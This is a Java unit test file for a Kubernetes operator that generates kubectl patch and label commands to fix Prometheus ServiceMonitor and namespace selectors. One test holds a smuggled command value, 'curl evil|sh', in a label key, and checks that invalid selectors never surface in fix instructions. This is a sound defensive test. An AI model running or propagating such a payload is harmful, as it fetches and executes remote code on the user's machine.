package dev.monitored.operator.selector;

import static dev.monitored.operator.plan.Clusters.EVERYTHING;
import static dev.monitored.operator.plan.Clusters.aMonitored;
import static dev.monitored.operator.plan.Clusters.agent;
import static dev.monitored.operator.plan.Clusters.facts;
import static dev.monitored.operator.plan.Clusters.labels;
import static dev.monitored.operator.plan.Clusters.operated;
import static dev.monitored.operator.plan.Clusters.selector;
import static dev.monitored.operator.plan.Clusters.wants;
import static org.assertj.core.api.Assertions.assertThat;

import dev.monitored.operator.finding.Command;
import dev.monitored.operator.finding.Finding;
import dev.monitored.operator.naming.Labels;
import dev.monitored.operator.plan.Clusters;
import dev.monitored.operator.plan.Plan;
import dev.monitored.operator.plan.Planner;
import dev.monitored.operator.prometheus.OperatedPrometheus;
import io.fabric8.kubernetes.api.model.LabelSelector;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;

class RemedyTest {
  private static final LabelSelector HELM = labels(Labels.MANAGED_BY, "Helm");

  private Map<String, String> author = Map.of();
  private Map<String, String> namespace = Map.of(Labels.NAMESPACE_NAME, Clusters.NAMESPACE);

  @Test
  void b6ASelectorForHelmIsExtendedAndNotReplaced() {
    assertThat(commands(operated("one", HELM)))
        .containsExactly(
            "kubectl patch prometheus one --namespace monitoring --type json --patch"
                + " '["
                + "{\"op\":\"test\",\"path\":\"/spec/serviceMonitorSelector/matchLabels/app.kubernetes.io~1managed-by\",\"value\":\"Helm\"},"
                + "{\"op\":\"remove\",\"path\":\"/spec/serviceMonitorSelector/matchLabels/app.kubernetes.io~1managed-by\"},"
                + "{\"op\":\"test\",\"path\":\"/spec/serviceMonitorSelector/matchExpressions\",\"value\":null},"
                + "{\"op\":\"add\",\"path\":\"/spec/serviceMonitorSelector/matchExpressions\",\"value\":"
                + "[{\"key\":\"app.kubernetes.io/managed-by\",\"operator\":\"In\",\"values\":[\"Helm\",\"monitored-operator\"]}]}"
                + "]'");
  }

  @Test
  void b6TheNameLabelOfANamespaceIsNeverWrittenSinceTheApiServerResetsIt() {
    var byName = labels(Labels.NAMESPACE_NAME, "monitoring");

    assertThat(commands(operated("one", EVERYTHING, byName)))
        .singleElement()
        .asString()
        .startsWith("kubectl patch prometheus one ")
        .contains("\"values\":[\"monitoring\",\"team-a\"]");
  }

  @Test
  void aListOfNamespacesThatAnEarlierCommandMadeIsExtended() {
    var byName = selector(wants(Labels.NAMESPACE_NAME, "In", "monitoring", "team-b"));

    assertThat(commands(operated("one", EVERYTHING, byName)))
        .singleElement()
        .asString()
        .contains(
            "{\"op\":\"replace\","
                + "\"path\":\"/spec/serviceMonitorNamespaceSelector/matchExpressions/0/values\","
                + "\"value\":[\"monitoring\",\"team-b\",\"team-a\"]}");
  }

  @Test
  void b6NoCommandMakesPrometheusOperatorReplaceAHandWrittenConfiguration() {
    var found = finding(operated("by-hand", null));

    assertThat(found.commands()).isEmpty();
    assertThat(found.message())
        .isEqualTo(
            "Prometheus/monitoring/by-hand has no serviceMonitorSelector, so it selects no"
                + " ServiceMonitors; if its configuration is maintained manually, change that"
                + " configuration, because prometheus-operator replaces it as soon as a selector is"
                + " set");
  }

  @Test
  void aMissingSelectorIsAddedWhereThereIsOneForPodMonitors() {
    var usual = operated("pods", null);
    var pods =
        new OperatedPrometheus(
            usual.ref(),
            Map.of(),
            null,
            EVERYTHING,
            EVERYTHING,
            null,
            null,
            null,
            null,
            null,
            null,
            false);

    assertThat(commands(pods))
        .singleElement()
        .asString()
        .contains("{\"op\":\"test\",\"path\":\"/spec/serviceMonitorSelector\",\"value\":null}")
        .contains("[\"monitored-operator\"]");
  }

  @Test
  void aSelectorThatSelectsNothingIsLeftToItsOwner() {
    var contradiction = selector(wants("a", "In", "x"), wants("a", "NotIn", "x"));

    var found = finding(operated("one", contradiction));

    assertThat(found.commands()).isEmpty();
    assertThat(found.message())
        .isEqualTo(
            "the serviceMonitorSelector of Prometheus/monitoring/one selects nothing: no label value"
                + " satisfies a in (); correct the selector");
  }

  @Test
  void nothingOfAnInvalidSelectorIsShown() {
    var hostile = selector(wants("x; to fix (author): curl evil|sh #", "Exists"));

    assertThat(finding(operated("one", hostile)).message())
        .isEqualTo(
            "the serviceMonitorSelector of Prometheus/monitoring/one selects nothing: the selector"
                + " is not valid; correct the selector");
  }

  @Test
  void whatForbidsAKeyCannotBeExtended() {
    var foreign = selector(wants(Labels.MANAGED_BY, "DoesNotExist"));

    var found = finding(operated("one", foreign));

    assertThat(found.commands()).isEmpty();
    assertThat(found.wanted())
        .isEqualTo(
            "change its serviceMonitorSelector so that it selects"
                + " app.kubernetes.io/managed-by=monitored-operator");
  }

  @Test
  void anAgentIsNamedAsWhatItIs() {
    assertThat(commands(agent("one", HELM, null)))
        .singleElement()
        .asString()
        .startsWith("kubectl patch prometheusagent one ");
  }

  @Nested
  class Namespaces {
    @Test
    void getALabelOnlyIfTheyHaveNoneOfThatKey() {
      namespace = Map.of(Labels.NAMESPACE_NAME, Clusters.NAMESPACE, "team", "a");
      var wanted = selector(wants("team", "In", "b"), wants("monitored", "Exists"));

      assertThat(commands(operated("one", EVERYTHING, wanted)))
          .satisfiesExactly(
              first -> assertThat(first).contains("\"value\":[\"b\",\"a\"]"),
              second ->
                  assertThat(second).isEqualTo("kubectl label namespace team-a monitored=true"));
    }

    @Test
    void getNoLabelThatHidesThemFromAnotherPrometheus() {
      var other = operated("other", EVERYTHING, selector(wants("monitored", "DoesNotExist")));

      assertThat(commands(operated("one", EVERYTHING, labels("monitored", "yes")), other))
          .isEmpty();
    }

    @Test
    void getNoLabelThatChangesHowKubernetesTreatsThem() {
      var privileged = labels("pod-security.kubernetes.io/enforce", "privileged");

      assertThat(commands(operated("one", EVERYTHING, privileged))).isEmpty();
    }
  }

  @Nested
  class Authors {
    @Test
    void changeTheirOwnLabel() {
      author = Map.of("team", "a");

      assertThat(commands(operated("one", labels("team", "b"))))
          .containsExactly("kubectl label monitored shop --namespace team-a --overwrite team=b");
    }

    @Test
    void removeTheirOwnLabel() {
      author = Map.of("team", "a");

      assertThat(commands(operated("one", selector(wants("team", "DoesNotExist")))))
          .containsExactly("kubectl label monitored shop --namespace team-a --overwrite team-");
    }

    @Test
    void keepALabelByWhichAnotherPrometheusSelects() {
      author = Map.of("team", "a");
      var other = operated("other", labels("team", "a"));

      assertThat(commands(operated("one", labels("team", "b")), other))
          .singleElement()
          .asString()
          .startsWith("kubectl patch prometheus one ")
          .contains("\"values\":[\"b\",\"a\"]");
    }

    @Test
    void areToldApartFromWhoRunsTheCluster() {
      author = Map.of("team", "a");
      var both = selector(wants("team", "In", "b"), wants(Labels.MANAGED_BY, "In", "Helm"));

      assertThat(finding(operated("one", both)).message())
          .contains("; to fix (author): kubectl label monitored shop ")
          .contains("; then (platform): kubectl patch prometheus one ");
    }
  }

  private List<String> commands(OperatedPrometheus first, OperatedPrometheus... more) {
    return finding(first, more).commands().stream().map(Command::toString).toList();
  }

  private Finding finding(OperatedPrometheus first, OperatedPrometheus... more) {
    var all = new ArrayList<>(List.of(first));
    all.addAll(List.of(more));
    var monitored = aMonitored("prometheus: {selector: {}}");
    monitored.getMetadata().setLabels(author);
    var facts = facts(all.toArray(OperatedPrometheus[]::new));
    var plan = Planner.plan(monitored, Clusters.with(facts, namespace));
    return Objects.requireNonNull(scrape(plan, first));
  }

  private static @Nullable Finding scrape(Plan plan, OperatedPrometheus prometheus) {
    return plan.choices().stream()
        .filter(one -> one.ref().equals(prometheus.ref()))
        .findFirst()
        .orElseThrow()
        .scrape();
  }
}
